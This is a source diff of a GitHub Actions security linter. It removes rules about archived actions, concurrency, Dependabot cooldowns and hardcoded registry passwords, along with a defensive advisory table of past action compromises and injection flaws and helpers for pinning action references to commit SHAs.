-// server/src/rules/archived-uses.ts
-var archivedUses = {
-  id: "archived-uses",
-  title: "Action from an archived repository",
-  kinds: ["workflow", "action"],
-  severity: "medium",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "A `uses:` names an action or reusable workflow whose repository its owner has archived.",
-    why: "An archived repository gets no security fixes: when a vulnerability is found in it, or in the runtime or dependencies it bundles, nobody will release a patched version. `actions/create-release` and the `actions-rs/*` actions are still copied into new workflows years after they were abandoned.",
-    fix: "Replace the action with its maintained successor (the message names one when there is an obvious one) or with a plain command (`gh release create`, `cargo`, `aws s3 sync`)."
-  },
-  check({ file, report }) {
-    for (const site of file.uses) {
-      const reference = site.reference;
-      if (reference.kind !== "remote") continue;
-      const archived = archivedAction(reference.owner, reference.repo);
-      if (!archived) continue;
-      const end = reference.ref === null ? site.value.length : reference.refStart - 1;
-      const span = site.exact ? { start: site.valueStart, end: site.valueStart + end } : site.entry.valueSpan;
-      report({
-        span,
-        message: `\`${usesTarget(reference)}\` comes from an archived repository that receives no fixes${archived.replacement ? `; use ${archived.replacement} instead` : ""}`
-      });
-    }
-  }
-};
-
-// server/src/rules/concurrency-limits.ts
-var SUPERSEDING = /* @__PURE__ */ new Set(["push", "pull_request", "pull_request_target", "merge_group"]);
-function declaresCancel(entry, doc) {
-  if (!entry) return false;
-  return new MapView(asMap(entry.value), doc).has("cancel-in-progress");
-}
-var concurrencyLimits = {
-  id: "concurrency-limits",
-  title: "Workflow without a concurrency limit",
-  kinds: ["workflow"],
-  severity: "low",
-  confidence: "high",
-  persona: "pedantic",
-  docs: {
-    summary: "A workflow run by `push` or pull-request events has no `concurrency:` with `cancel-in-progress`, neither at the top nor in every job, so superseded runs keep running.",
-    why: "Without a limit every push starts another full run: runner minutes, and for self-hosted runners a queue an attacker can flood by pushing to a pull request. A `concurrency` group also stops two deployments from racing.",
-    fix: "Add at the top: `concurrency: { group: ${{ github.workflow }}-${{ github.ref }}, cancel-in-progress: true }` (or `cancel-in-progress: false` for deployments you want queued, which states the choice)."
-  },
-  check({ file, report }) {
-    const workflow = file.workflow;
-    if (!workflow || workflow.jobs.length === 0) return;
-    if (!workflow.triggers.some((trigger) => SUPERSEDING.has(trigger.name))) return;
-    const top = workflow.get("concurrency");
-    if (declaresCancel(top, workflow.doc)) return;
-    if (workflow.jobs.every((job) => declaresCancel(job.get("concurrency"), job.doc))) return;
-    const span = top ? top.keySpan : workflow.on?.keySpan ?? { start: 0, end: 0 };
-    report({
-      span,
-      message: top ? "`concurrency` has no `cancel-in-progress`, so superseded runs of this workflow keep running" : "This workflow has no `concurrency` group with `cancel-in-progress`: every push starts another full run while older ones continue"
-    });
-  }
-};
-
-// server/src/rules/support/lines.ts
-function insertLinesAfterNodeEnd(file, nodeEnd, indent, lines) {
-  const index = file.lines;
-  const eol = index.eol;
-  const line = index.lineAt(Math.max(0, nodeEnd - 1));
-  const body = lines.map((text) => indent + text + eol).join("");
-  if (line + 1 < index.lineCount) {
-    const at = index.lineStarts[line + 1];
-    return { span: { start: at, end: at }, newText: body };
-  }
-  const end = file.text.length;
-  return { span: { start: end, end }, newText: eol + body.slice(0, body.length - eol.length) };
-}
-function columnIndent(file, offset) {
-  const line = file.lines.lineAt(offset);
-  return " ".repeat(offset - file.lines.lineStarts[line]);
-}
-
-// server/src/rules/dependabot-cooldown.ts
-var DEFAULT_DAYS = 7;
-var dependabotCooldown = {
-  id: "dependabot-cooldown",
-  title: "Dependabot updates without a cooldown",
-  kinds: ["dependabot"],
-  severity: "medium",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "An `updates:` entry of `.github/dependabot.yml` has no `cooldown:` or a `default-days` below 7, so a release is proposed (and often merged) the day it is published.",
-    why: "Compromised releases are usually caught within days: the malicious tj-actions/changed-files and reviewdog tags (March 2025) were live for hours, the Trivy tags (March 2026) for about 12 hours, and most npm worm releases of 2025 were pulled within a day. A cooldown lets that window pass before your updater proposes the version. Astral requires at least 7 days.",
-    fix: "Add `cooldown: { default-days: 7 }` to every `updates:` entry (the quick fix inserts or raises it)."
-  },
-  check({ file, config, report }) {
-    const dependabot = file.dependabot;
-    if (!dependabot) return;
-    const minimum = typeof config.days === "number" && Number.isFinite(config.days) && config.days >= 1 ? Math.floor(config.days) : DEFAULT_DAYS;
-    for (const update of dependabot.updates) {
-      const map2 = update.map;
-      const span = update.span;
-      if (!map2 || !span) continue;
-      const ecosystem = update.string("package-ecosystem");
-      const name = ecosystem ? `\`${ecosystem.value}\`` : "This";
-      const anchor = ecosystem?.span ?? { start: span.start, end: span.start };
-      const cooldownEntry = update.get("cooldown");
-      if (!cooldownEntry) {
-        const firstKey = update.entries[0];
-        const indent = firstKey ? columnIndent(file, firstKey.keySpan.start) : "  ";
-        report({
-          span: anchor,
-          message: `${name} updates have no cooldown: new releases are proposed the day they are published. Add \`cooldown: { default-days: ${minimum} }\``,
-          fixes: [
-            {
-              title: `Add a ${minimum}-day cooldown`,
-              isPreferred: true,
-              safety: "safe",
-              edits: [insertLinesAfterNodeEnd(file, span.end, indent, ["cooldown:", `  default-days: ${minimum}`])]
-            }
-          ]
-        });
-        continue;
-      }
-      const cooldown = new MapView(asMap(cooldownEntry.value), file.doc);
-      const days = cooldown.get("default-days");
-      if (!days) {
-        const first = mapEntries(cooldown.map, file.doc)[0];
-        report({
-          span: cooldownEntry.keySpan,
-          message: `${name} updates have a cooldown without \`default-days\`, so versions not covered by the other keys wait only Dependabot's default. Set \`default-days: ${minimum}\``,
-          fixes: first ? [{ title: `Set default-days: ${minimum}`, isPreferred: true, safety: "safe", edits: [insertLinesAbove(file, first.keySpan.start, [`default-days: ${minimum}`])] }] : []
-        });
-        continue;
-      }
-      const text = scalarText(days.value);
-      const value = text === null ? NaN : Number(text);
-      if (Number.isFinite(value) && value >= minimum) continue;
-      if (text !== null && text.includes("${{")) continue;
-      report({
-        span: days.valueSpan,
-        message: `${name} updates wait only ${text ?? "an unknown number of"} day(s) before proposing a release; use at least ${minimum}`,
-        fixes: [{ title: `Raise default-days to ${minimum}`, isPreferred: true, safety: "safe", edits: [{ span: days.valueSpan, newText: String(minimum) }] }]
-      });
-    }
-  }
-};
-
-// server/src/rules/dependabot-execution.ts
-var dependabotExecution = {
-  id: "dependabot-execution",
-  title: "Dependabot allowed to run code from dependencies",
-  kinds: ["dependabot"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`insecure-external-code-execution: allow` lets Dependabot run code from the dependency manifests it updates (setup.py, gemspecs, Gradle scripts) while holding the credentials of your private registries.",
-    why: "Package managers such as pip (setup.py), Bundler (gemspecs) and Mix evaluate code to resolve dependencies. With this option on, a malicious or compromised release executes inside Dependabot's update job, next to the registry credentials configured for it.",
-    fix: "Remove the option or set it to `deny` (the default). If updates then fail, vendor the dependency or move the logic out of the manifest."
-  },
-  check({ file, report }) {
-    const dependabot = file.dependabot;
-    if (!dependabot) return;
-    for (const update of dependabot.updates) {
-      const option = update.string("insecure-external-code-execution");
-      if (!option || option.value !== "allow") continue;
-      const ecosystem = update.string("package-ecosystem")?.value;
-      report({
-        span: option.span,
-        message: `Dependabot may execute code from ${ecosystem ? `\`${ecosystem}\`` : "these"} dependencies while updating them, with access to the configured registry credentials`,
-        fixes: [{ title: "Set insecure-external-code-execution to deny", isPreferred: true, safety: "unsafe", edits: [{ span: option.span, newText: "deny" }] }]
-      });
-    }
-  }
-};
-
-// server/src/rules/dependabot-missing-actions.ts
-var dependabotMissingActions = {
-  id: "dependabot-missing-actions",
-  title: "Dependabot does not update GitHub Actions",
-  kinds: ["dependabot"],
-  severity: "low",
-  confidence: "high",
-  persona: "pedantic",
-  docs: {
-    summary: "`.github/dependabot.yml` has no `updates:` entry with `package-ecosystem: github-actions`, so pinned actions are never bumped.",
-    why: "SHA pins (the defence against moved tags such as tj-actions/changed-files in 2025 and trivy-action in 2026) freeze the action at one commit: without an updater they silently miss security fixes, like the patched releases those incidents produced. The file is judged alone; a repository that updates actions with Renovate can ignore this rule.",
-    fix: "Add an entry: `- package-ecosystem: github-actions`, `directory: /`, a `schedule:` and a `cooldown:` (the quick fix appends one)."
-  },
-  check({ file, report }) {
-    const dependabot = file.dependabot;
-    if (!dependabot) return;
-    const updatesEntry = dependabot.get("updates");
-    if (!updatesEntry) return;
-    if (dependabot.updates.some((update) => update.string("package-ecosystem")?.value === "github-actions")) return;
-    const fixes = [];
-    const seq2 = asSeq(updatesEntry.value);
-    const items = seqItems(seq2, file.doc);
-    const seqSpan = nodeSpan(seq2);
-    if (seq2 && seqSpan && items.length > 0 && seq2.flow !== true) {
-      const firstItemSpan = nodeSpan(items[0]);
-      if (firstItemSpan) {
-        const itemIndent = columnIndent(file, firstItemSpan.start);
-        const dash = itemIndent.length >= 2 ? itemIndent.slice(2) : "";
-        fixes.push({
-          title: "Add a github-actions updates entry",
-          isPreferred: true,
-          safety: "unsafe",
-          edits: [
-            insertLinesAfterNodeEnd(file, seqSpan.end, dash, [
-              "- package-ecosystem: github-actions",
-              "  directory: /",
-              "  schedule:",
-              "    interval: weekly",
-              "  cooldown:",
-              "    default-days: 7"
-            ])
-          ]
-        });
-      }
-    }
-    report({
-      span: updatesEntry.keySpan,
-      message: "Dependabot updates no `github-actions` ecosystem: SHA-pinned actions in this repository will never be bumped",
-      fixes
-    });
-  }
-};
-
 // server/src/rules/forbidden-uses.ts
 function matchesUsesPattern(pattern, uses) {
   const text = pattern.trim();
@@ -10610,6 +13661,7 @@ var forbiddenUses = {
   severity: "high",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
     summary: "A `uses:` names an action that the configuration's `allow` list does not cover, or that its `deny` list names.",
     why: `Every third-party action runs with the job's token and secrets. Organisations that vet actions (as GitHub's own "allowed actions" policy does) need the editor to say so before CI does; the 2025 tj-actions/changed-files and reviewdog compromises hit repositories that had never decided whether they trusted those owners.`,
@@ -10645,6 +13697,7 @@ var githubApp = {
   severity: "high",
   confidence: "high",
   persona: "regular",
+  online: false,
   docs: {
     summary: "`actions/create-github-app-token` with `skip-token-revoke: true`, with `owner:` but no `repositories:` (a token for every repository of the installation), or without any `permission-*` input (every permission the App has).",
     why: "App tokens are how hardened projects (Astral, the Trivy and Grafana post-mortems) replace long-lived PATs — but an App installation usually spans an organisation. In the 2025 Grafana incident an injected workflow stole exactly such credentials; a token scoped to one repository and a few permissions, revoked at the end of the job, limits what a thief can do and for how long.",
@@ -10674,3577 +13727,6 @@ var githubApp = {
           span: site.entry.valueSpan,
           message: `${label} requests no \`permission-*\` inputs, so the token carries every permission granted to the App: request only what the job uses`,
           severity: "medium"
-        });
-      }
-    }
-  }
-};
-
-// server/src/rules/hardcoded-container-credentials.ts
-function checkCredentials(ctx, where, node, doc) {
-  const container = asMap(node);
-  if (!container) return;
-  const credentials = new MapView(asMap(new MapView(container, doc).get("credentials")?.value ?? null), doc);
-  const password = spannedString(credentials.get("password")?.value ?? null);
-  if (!password || password.value.trim() === "" || password.value.includes("${{")) return;
-  ctx.report({
-    span: password.span,
-    message: `${where} has a registry password written in the workflow: anyone who can read the repository can use it. Use \`\${{ secrets.… }}\``
-  });
-}
-var hardcodedContainerCredentials = {
-  id: "hardcoded-container-credentials",
-  title: "Container registry password written in the workflow",
-  kinds: ["workflow"],
-  severity: "high",
-  confidence: "high",
-  persona: "regular",
-  docs: {
-    summary: "`container.credentials.password` or `services.<id>.credentials.password` is a literal instead of a secret.",
-    why: "Workflow files are readable by everyone who can read the repository, its forks and its history; a registry password committed there is published. Rotating it after the fact does not remove it from forks or clones.",
-    fix: "Store the password as an encrypted secret (or use `${{ github.token }}` for GHCR) and reference it: `password: ${{ secrets.REGISTRY_PASSWORD }}`. Then rotate the exposed password."
-  },
-  check(ctx) {
-    const workflow = ctx.file.workflow;
-    if (!workflow) return;
-    for (const job of workflow.jobs) {
-      checkCredentials(ctx, `The container of job \`${job.id}\``, job.container?.value ?? null, job.doc);
-      for (const service of job.services.entries) checkCredentials(ctx, `Service \`${service.key}\` of job \`${job.id}\``, service.value, job.doc);
-    }
-  }
-};
-
-// server/src/knowledge/advisories.ts
-var ADVISORIES = [
-  {
-    repository: "tj-actions/changed-files",
-    ghsa: "GHSA-mrrh-fwg8-r2c3",
-    cve: "CVE-2025-30066",
-    severity: "high",
-    kind: "compromise",
-    summary: "its tags (v1 to v45.0.7) were moved on March 14–15, 2025 to a malicious commit that printed the runner's secrets into the build log",
-    // GHSA: affected <= 45.0.7, patched 46.0.1; CVE record: versions 1 to < 46.
-    ranges: [{ fixed: "46" }],
-    badCommits: ["0e58ed8671d6b60d0890c21b07f8835ace038e67"],
-    patchedTag: "v46.0.1",
-    source: "https://github.com/advisories/GHSA-mrrh-fwg8-r2c3",
-    references: [
-      "https://raw.githubusercontent.com/github/advisory-database/bcdd7ff351551f7df4f41eecad6de58eca891ed8/advisories/github-reviewed/2025/03/GHSA-mrrh-fwg8-r2c3/GHSA-mrrh-fwg8-r2c3.json",
-      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/30xxx/CVE-2025-30066.json",
-      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-github-action-cve-2025-30066"
-    ]
-  },
-  {
-    repository: "tj-actions/changed-files",
-    ghsa: "GHSA-mcph-m25j-8j63",
-    cve: "CVE-2023-51664",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "changed file names were returned unescaped, so a file name with shell metacharacters injects commands into a `run:` that uses the output",
-    ranges: [{ fixed: "41" }],
-    patchedTag: "v41",
-    source: "https://github.com/tj-actions/changed-files/security/advisories/GHSA-mcph-m25j-8j63",
-    references: [
-      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2023/51xxx/CVE-2023-51664.json",
-      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-mcph-m25j-8j63.md"
-    ]
-  },
-  {
-    repository: "reviewdog/action-setup",
-    ghsa: "GHSA-qmg3-hpqr-gqvc",
-    cve: "CVE-2025-30154",
-    severity: "high",
-    kind: "compromise",
-    summary: "its `v1` tag was moved for a while in March 2025 to a malicious commit that leaked the runner's secrets",
-    ranges: [],
-    badCommits: ["f0d342d24037bb11d26b9bd8496e0808ba32e9ec"],
-    source: "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/30xxx/CVE-2025-30154.json",
-    references: [
-      "https://github.com/advisories/GHSA-qmg3-hpqr-gqvc",
-      "https://www.cisa.gov/news-events/alerts/2025/03/18/supply-chain-compromise-third-party-github-action-cve-2025-30066"
-    ]
-  },
-  {
-    repository: "aquasecurity/trivy-action",
-    ghsa: "GHSA-69fq-xp46-6x23",
-    cve: "CVE-2026-33634",
-    severity: "high",
-    kind: "compromise",
-    summary: "76 of its 77 tags (every one before 0.35.0) were force-pushed on March 19–20, 2026 to a credential stealer",
-    ranges: [{ fixed: "0.35.0" }],
-    badCommits: ["ddb9da4475c1cef7d5389062bdfdfbdbd1394648"],
-    patchedTag: "0.35.0",
-    source: "https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23",
-    references: [
-      "https://raw.githubusercontent.com/github/advisory-database/bcdd7ff351551f7df4f41eecad6de58eca891ed8/advisories/github-reviewed/2026/03/GHSA-69fq-xp46-6x23/GHSA-69fq-xp46-6x23.json",
-      "https://github.com/aquasecurity/trivy-action/issues/541"
-    ]
-  },
-  {
-    repository: "aquasecurity/setup-trivy",
-    ghsa: "GHSA-69fq-xp46-6x23",
-    cve: "CVE-2026-33634",
-    severity: "high",
-    kind: "compromise",
-    summary: "all 7 of its tags were replaced on March 19, 2026 with malicious commits",
-    ranges: [{ fixed: "0.2.6" }],
-    patchedTag: "v0.2.6",
-    source: "https://github.com/aquasecurity/trivy/security/advisories/GHSA-69fq-xp46-6x23",
-    references: [
-      "https://github.com/github/gh-aw-firewall/issues/1384",
-      "https://github.com/pact-foundation/pact-broker-docker/pull/329"
-    ]
-  },
-  {
-    repository: "actions/download-artifact",
-    ghsa: "GHSA-cxww-7g56-2vh6",
-    cve: "CVE-2024-42471",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "a crafted artifact could write files outside the destination directory when extracted (path traversal)",
-    ranges: [{ introduced: "4.0.0", fixed: "4.1.3" }],
-    patchedTag: "v4.1.3",
-    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-cxww-7g56-2vh6.md",
-    references: ["https://github.com/advisories/GHSA-cxww-7g56-2vh6"]
-  },
-  {
-    repository: "dawidd6/action-download-artifact",
-    ghsa: "GHSA-5xr6-xhww-33m4",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "artifacts of fork runs were searched by default (`allow_forks`), so a fork could poison what a privileged workflow downloads",
-    ranges: [{ fixed: "6" }],
-    patchedTag: "v6",
-    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-5xr6-xhww-33m4.md",
-    references: ["https://github.com/advisories/GHSA-5xr6-xhww-33m4"]
-  },
-  {
-    repository: "lycheeverse/lychee-action",
-    ghsa: "GHSA-65rg-554r-9j5x",
-    cve: "CVE-2024-48908",
-    severity: "medium",
-    kind: "vulnerability",
-    summary: "an expression in its `lycheeVersion` input was interpolated into the composite action's shell script (code injection)",
-    // GHSA: <= 2.0.1, patched 2.0.2.
-    ranges: [{ fixed: "2.0.2" }],
-    patchedTag: "v2.0.2",
-    source: "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-65rg-554r-9j5x.md",
-    references: ["https://github.com/advisories/GHSA-65rg-554r-9j5x"]
-  },
-  {
-    repository: "atlassian/gajira-create",
-    ghsa: "GHSA-4xqx-pqpj-9fqw",
-    cve: "CVE-2020-14188",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "a crafted GitHub issue made the action execute arbitrary code on the runner",
-    ranges: [{ fixed: "2.0.1" }],
-    patchedTag: "v2.0.1",
-    source: "https://github.com/advisories/GHSA-4xqx-pqpj-9fqw",
-    references: ["https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2020/14xxx/CVE-2020-14188.json"]
-  },
-  {
-    repository: "check-spelling/check-spelling",
-    ghsa: "GHSA-g86g-chm8-7r2p",
-    cve: "CVE-2021-32724",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "on `pull_request_target` or `schedule`, a crafted pull request could expose the `GITHUB_TOKEN`",
-    ranges: [{ fixed: "0.0.19" }],
-    patchedTag: "v0.0.19",
-    source: "https://github.com/advisories/GHSA-g86g-chm8-7r2p",
-    references: ["https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2021/32xxx/CVE-2021-32724.json"]
-  },
-  {
-    repository: "gradle/gradle-build-action",
-    ghsa: "GHSA-h3qr-39j9-4r5v",
-    cve: "CVE-2023-30853",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "with the configuration cache enabled, secrets passed in environment variables could be saved into a GitHub Actions cache entry readable by untrusted workflows",
-    ranges: [{ fixed: "2.4.2" }],
-    patchedTag: "v2.4.2",
-    source: "https://github.com/gradle/gradle-build-action/security/advisories/GHSA-h3qr-39j9-4r5v",
-    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-h3qr-39j9-4r5v.md"]
-  },
-  {
-    repository: "rlespinasse/github-slug-action",
-    ghsa: "GHSA-6q4m-7476-932w",
-    cve: "CVE-2023-27581",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "`github.head_ref` was substituted into its shell script, so a crafted branch name injects commands",
-    // The maintainers' advisory: "Patched action is available on tag v4, tag v4.4.1, and any tag beyond."
-    // Only the v4 series is matched: the advisory's lower bound for v3 was not confirmed.
-    ranges: [{ introduced: "4.0.0", fixed: "4.4.1" }],
-    patchedTag: "v4.4.1",
-    source: "https://github.com/rlespinasse/github-slug-action/security/advisories/GHSA-6q4m-7476-932w",
-    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-6q4m-7476-932w.md"]
-  },
-  {
-    repository: "tj-actions/branch-names",
-    ghsa: "GHSA-8v8w-v8xg-79rf",
-    cve: "CVE-2023-49291",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "the branch name was substituted into its shell script, so a crafted branch name injects commands",
-    ranges: [{ fixed: "7.0.7" }],
-    patchedTag: "v7.0.7",
-    source: "https://github.com/advisories/GHSA-8v8w-v8xg-79rf",
-    references: [
-      "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2023/49xxx/CVE-2023-49291.json",
-      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-8v8w-v8xg-79rf.md"
-    ]
-  },
-  {
-    repository: "tj-actions/branch-names",
-    ghsa: "GHSA-gq52-6phf-x2r6",
-    cve: "CVE-2025-54416",
-    severity: "high",
-    kind: "vulnerability",
-    summary: 'command injection through branch names (CVE title: "tj-actions/branch-names Contains Command Injection Vulnerability")',
-    ranges: [{ lastAffected: "8.2.1" }],
-    patchedTag: "v9.0.0",
-    source: "https://raw.githubusercontent.com/CVEProject/cvelistV5/main/cves/2025/54xxx/CVE-2025-54416.json",
-    references: ["https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-8v8w-v8xg-79rf.md"],
-    unverified: "the range (<= 8.2.1, fixed in 9.0.0) and the mechanism were read only in a third-party summary, not in the advisory or the CVE record"
-  },
-  {
-    repository: "tj-actions/verify-changed-files",
-    ghsa: "GHSA-ghm2-rq8q-wrhc",
-    cve: "CVE-2023-52137",
-    severity: "high",
-    kind: "vulnerability",
-    summary: "changed file names were returned unescaped, so a file name with shell metacharacters injects commands into a `run:` that uses the output",
-    ranges: [{ fixed: "17" }],
-    patchedTag: "v17",
-    source: "https://github.com/bash-lsp/bash-language-server/pull/1074",
-    references: [
-      "https://github.com/sisaku-security/sisakulint/blob/main/docs/advisory/GHSA-ghm2-rq8q-wrhc.md",
-      "https://github.com/tj-actions/depcheck/pull/144"
-    ]
-  }
-];
-var byRepository = /* @__PURE__ */ new Map();
-for (const advisory of ADVISORIES) {
-  if (advisory.unverified) continue;
-  const list = byRepository.get(advisory.repository) ?? [];
-  list.push(advisory);
-  byRepository.set(advisory.repository, list);
-}
-function advisoriesFor(repository) {
-  return byRepository.get(repository.toLowerCase()) ?? [];
-}
-
-// server/src/resolve/types.ts
-var ok = (value) => ({ ok: true, value });
-var fail2 = (kind, message, retryAt) => ({
-  ok: false,
-  error: retryAt === void 0 ? { kind, message } : { kind, message, retryAt }
-});
-var FULL_SHA_RE = /^[0-9a-f]{40}$/;
-function repoKey(owner, repo) {
-  return `${owner}/${repo}`.toLowerCase();
-}
-function isValidRepoName(owner, repo) {
-  return /^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/.test(owner) && /^[A-Za-z0-9._-]{1,100}$/.test(repo) && repo !== "." && repo !== "..";
-}
-function findRef(refs, name) {
-  return { tag: refs.tags.find((ref2) => ref2.name === name), branch: refs.branches.find((ref2) => ref2.name === name) };
-}
-
-// server/src/resolve/snapshot.ts
-function advisorySource(resolver) {
-  const candidate = resolver;
-  return typeof candidate.listAdvisories === "function" && "advisoriesUnavailable" in candidate ? candidate : null;
-}
-var attached = new AttachedCache("online-snapshot", attachmentsOf);
-function attachSnapshot(file, snapshot) {
-  attached.set(file, snapshot);
-}
-function snapshotOf(file) {
-  return attached.get(file);
-}
-function emptySnapshot(offline, serverUrl = "https://github.com") {
-  return { offline, serverUrl, repos: /* @__PURE__ */ new Map(), memberships: /* @__PURE__ */ new Map(), shortShas: /* @__PURE__ */ new Map() };
-}
-function resolvableRemote(site) {
-  const reference = site.reference;
-  if (reference.kind !== "remote" || !reference.ref || reference.refKind === "expression") return null;
-  return reference;
-}
-function refsFor(snapshot, uses) {
-  return snapshot?.repos.get(repoKey(uses.owner, uses.repo));
-}
-function advisoriesFor2(snapshot, uses) {
-  const result = snapshot?.advisories?.get(repoKey(uses.owner, uses.repo));
-  return result?.ok ? result.value : void 0;
-}
-function membershipFor(snapshot, uses) {
-  return uses.ref ? snapshot?.memberships.get(`${repoKey(uses.owner, uses.repo)}@${uses.ref}`) : void 0;
-}
-async function collectSnapshot(files, resolver, options = {}) {
-  const snapshot = emptySnapshot(options.offline === true, options.serverUrl);
-  if (snapshot.offline) return snapshot;
-  const repos = /* @__PURE__ */ new Map();
-  const shas = /* @__PURE__ */ new Map();
-  const shorts = /* @__PURE__ */ new Map();
-  for (const file of files) {
-    for (const site of file.uses) {
-      const uses = resolvableRemote(site);
-      if (!uses) continue;
-      const key = repoKey(uses.owner, uses.repo);
-      if (!repos.has(key)) repos.set(key, uses);
-      if (uses.refKind === "sha") shas.set(`${key}@${uses.ref}`, uses);
-      if (uses.refKind === "short-sha") shorts.set(`${key}@${uses.ref}`, uses);
-    }
-  }
-  const source = options.advisories === false ? null : advisorySource(resolver);
-  const unavailable = source?.advisoriesUnavailable ?? null;
-  if (source && unavailable) snapshot.advisoriesSkipped = unavailable;
-  if (source && !unavailable) snapshot.advisories = /* @__PURE__ */ new Map();
-  await Promise.all(
-    [...repos].map(async ([key, uses]) => {
-      const [refs, advisories] = await Promise.all([
-        resolver.listRefs(uses.owner, uses.repo),
-        snapshot.advisories ? source.listAdvisories(uses.owner, uses.repo) : void 0
-      ]);
-      snapshot.repos.set(key, refs);
-      if (advisories) snapshot.advisories.set(key, advisories);
-    })
-  );
-  const work = [];
-  if (options.memberships !== false) {
-    for (const [key, uses] of shas) {
-      const refs = snapshot.repos.get(repoKey(uses.owner, uses.repo));
-      if (!refs?.ok) continue;
-      work.push(resolver.commitMembership(uses.owner, uses.repo, uses.ref).then((membership) => void snapshot.memberships.set(key, membership)));
-    }
-  }
-  for (const [key, uses] of shorts) {
-    work.push(
-      resolver.resolveRef(uses.owner, uses.repo, uses.ref).then((result) => {
-        snapshot.shortShas.set(key, result.ok ? { ok: true, value: result.value.commit } : result);
-      })
-    );
-  }
-  await Promise.all(work);
-  return snapshot;
-}
-
-// server/src/resolve/versions.ts
-var VERSION_RE2 = /^(v?)(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:-([0-9A-Za-z.-]+))?$/;
-function parseVersion(text) {
-  const match = VERSION_RE2.exec(text);
-  if (!match) return null;
-  const parts = [match[2], match[3], match[4]].filter((part) => part !== void 0).map(Number);
-  return { text, prefix: match[1] === "v" ? "v" : "", parts, prerelease: match[5] ?? null };
-}
-function isFullVersion(version2) {
-  return version2 !== null && version2.parts.length === 3;
-}
-function compareVersionsDesc(a, b) {
-  if (!a || !b) return Number(a === null) - Number(b === null);
-  for (let i = 0; i < 3; i++) {
-    const diff = (b.parts[i] ?? -1) - (a.parts[i] ?? -1);
-    if (diff !== 0) return diff;
-  }
-  if (a.prerelease !== b.prerelease) {
-    if (a.prerelease === null) return -1;
-    if (b.prerelease === null) return 1;
-    return a.prerelease < b.prerelease ? 1 : -1;
-  }
-  return 0;
-}
-function tagsAt(refs, commit) {
-  return refs.tags.filter((tag) => tag.commit === commit).map((tag) => tag.name).sort((a, b) => compareVersionsDesc(parseVersion(a), parseVersion(b)) || (a < b ? -1 : a > b ? 1 : 0));
-}
-function chooseVersionComment(refs, commit, original) {
-  const originalVersion = original ? parseVersion(original) : null;
-  const candidates = tagsAt(refs, commit).map(parseVersion).filter(isFullVersion).filter((version2) => version2.prerelease === null || originalVersion?.prerelease);
-  const sameStyle = candidates.filter(
-    (version2) => !originalVersion || version2.prefix === originalVersion.prefix && version2.parts[0] === originalVersion.parts[0]
-  );
-  if (sameStyle.length > 0) return sameStyle[0].text;
-  if (original) return original;
-  const anyTag = tagsAt(refs, commit);
-  return candidates[0]?.text ?? anyTag[0] ?? null;
-}
-
-// server/src/fixes/pin.ts
-var VERSION_TOKEN_RE = /^(\s*)(pin\s*@|tag=|@)?(v?\d+(?:\.\d+){0,2}(?:-[0-9A-Za-z.-]+)?)(?=$|[\s,;])/;
-function refSpan(site, uses) {
-  if (!site.exact || uses.ref === null) return null;
-  return { start: site.valueStart + uses.refStart, end: site.valueStart + uses.refEnd };
-}
-function trailingComment(file, site, alsoToken = null) {
-  const valueEnd = site.entry.valueSpan.end;
-  const line = file.lines.lineAt(valueEnd);
-  const lineEnd = file.lines.lineContentEnd(line);
-  const rest = file.text.slice(valueEnd, lineEnd);
-  if (/^\s*$/.test(rest)) return null;
-  const match = /^(\s+)#/.exec(rest);
-  if (!match) return "blocked";
-  const hash = valueEnd + match[1].length;
-  const body = file.text.slice(hash + 1, lineEnd);
-  const token = VERSION_TOKEN_RE.exec(body);
-  if (token) {
-    const start = hash + 1 + token[1].length + (token[2]?.length ?? 0);
-    return { hash, end: lineEnd, version: { span: { start, end: start + token[3].length }, text: token[3] } };
-  }
-  if (alsoToken) {
-    const word = /^(\s*)(\S+)(?=\s|$)/.exec(body);
-    if (word && word[2] === alsoToken) {
-      const start = hash + 1 + word[1].length;
-      return { hash, end: lineEnd, version: { span: { start, end: start + word[2].length }, text: word[2] } };
-    }
-  }
-  return { hash, end: lineEnd, version: null };
-}
-function versionComment(file, site) {
-  const comment = trailingComment(file, site);
-  return comment && comment !== "blocked" ? comment.version : null;
-}
-function pinEdits(file, site, uses, commit, comment) {
-  const span = refSpan(site, uses);
-  if (!span) return null;
-  const edits = [];
-  if (file.text.slice(span.start, span.end) !== commit) edits.push({ span, newText: commit });
-  if (comment !== null) {
-    const existing = trailingComment(file, site, uses.ref);
-    if (existing === null) {
-      const at = site.entry.valueSpan.end;
-      edits.push({ span: { start: at, end: at }, newText: ` # ${comment}` });
-    } else if (existing !== "blocked") {
-      if (existing.version) {
-        if (existing.version.text !== comment) edits.push({ span: existing.version.span, newText: comment });
-      } else {
-        const afterHash = file.text.charAt(existing.hash + 1);
